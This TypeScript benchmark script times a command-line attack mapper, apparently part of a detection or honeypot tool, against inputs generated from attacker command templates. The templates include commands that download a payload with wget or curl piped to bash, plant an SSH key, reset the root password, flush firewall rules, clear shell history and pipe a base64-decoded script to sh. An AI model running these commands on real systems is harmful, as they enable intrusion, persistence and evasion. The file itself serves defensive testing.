import { createAttackMapper } from '../../packages/hub/src/detection/attack-mapper/attack-mapper.ts';
import { machineAndVersions } from '../detection/report.ts';

/**
 * Statements mapped per second on one core, every input new to the mapper (`value`), and with the repetition of real
 * bots, which the cache of inputs answers (`cached`). Counted in processor seconds of the whole process, its collector and
 * compiler threads included, so that other work on the machine does not show. Inputs are made from templates with a fixed seed; medians of 5.
 */
const seed = 20_260_501;
const inputCount = 20_000;
const runs = 5;

/** Typical lines of attackers; `@` is replaced by a word that differs from line to line. */
const TEMPLATES = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.1/@; chmod 777 @; ./@ ssh; rm -rf @',
  'echo "root:@" | chpasswd | bash',
  'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3Nza@ mdrfckr" >> .ssh/authorized_keys && chmod -R go= ~/.ssh',
  '/bin/busybox @',
  "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
  'ls -lh $(which ls); which ls; crontab -l; w; uname -m; top; lscpu | grep Model',
  "echo -ne '\\x7f\\x45\\x4c\\x46\\x01@' >> .s",
  'curl -fsSL http://192.0.2.1/@.sh | bash',
  'if [ -f /etc/@ ]; then cat /etc/@ > /tmp/@.txt; fi',
  'sudo systemctl stop @; iptables -F; history -c; unset HISTFILE',
  'echo IyEvYmluL2Jhc2gKaWQKdW5hbWUgLWEK | base64 -d | sh',
  'for i in $(seq 1 254); do ping -c 1 192.0.2.$i > /dev/null && echo @; done',
] as const;

function makeInputs(variants: number): string[] {
  let state = seed;
  const random = (): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state;
  };
  return Array.from({ length: inputCount }, () => {
    const template = TEMPLATES[random() % TEMPLATES.length] ?? '';
    return template.replaceAll('@', `x${(random() % variants).toString(36)}`);
  });
}

function statementsPerSecond(inputs: readonly string[], maxCachedInputs: number): { rate: number; statements: number } {
  const rates: number[] = [];
  let statements = 0;
  for (let run = 0; run < runs + 1; run++) {
    const mapper = createAttackMapper({ limits: { maxCachedInputs } });
    statements = 0;
    const before = process.cpuUsage();
    for (const input of inputs) statements += mapper.mapCommandLine(input).length;
    // The first run warms the compiler up.
    const { user, system } = process.cpuUsage(before);
    if (run > 0) rates.push(statements / ((user + system) / 1_000_000));
    process.stderr.write(`${maxCachedInputs === 0 ? 'uncached' : 'cached'} run ${run}\n`);
  }
  rates.sort((left, right) => left - right);
  return { rate: rates[Math.floor(rates.length / 2)] ?? 0, statements };
}

const fresh = statementsPerSecond(makeInputs(1_000_000), 0);
const repeated = statementsPerSecond(makeInputs(100), 4_096);
process.stdout.write(
  `${JSON.stringify({
    name: 'attack-map',
    value: Math.round(fresh.rate),
    unit: 'statements per processor second, without cache',
    cached: Math.round(repeated.rate),
    ratio: Number((repeated.rate / fresh.rate).toFixed(2)),
    against: 'the same without cache',
    n: fresh.statements,
    runs,
    seed,
    ...machineAndVersions(),
  })}\n`,
);
